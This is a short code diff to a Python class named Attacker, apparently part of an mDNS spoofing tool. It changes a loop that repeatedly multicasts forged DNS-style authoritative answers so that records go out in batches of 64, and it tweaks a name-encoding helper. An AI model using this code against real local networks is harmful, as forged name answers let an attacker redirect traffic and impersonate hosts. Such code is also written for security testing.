@@ -137,8 +137,10 @@ class Attacker:
     def _repeat(self):
         while not self.is_over:
             records = self.records
-            if records:
-                message = struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)
+            # No message may have more than 9,000 bytes.
+            for start in range(0, len(records), 64):
+                part = records[start:start + 64]
+                message = struct.pack(">HHHHHH", 0, 0x8400, 0, len(part), 0, 0) + b"".join(part)
                 self.sender.sendto(message, (GROUP, PORT))
             time.sleep(0.1)
 
@@ -167,7 +169,7 @@ class Attacker:
 
 
 def _name(labels):
-    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
+    return b"".join(bytes([len(label)]) + label for label in map(str.encode, labels)) + b"\0"
 
 
 def _record(name, kind, record_class, ttl, data):
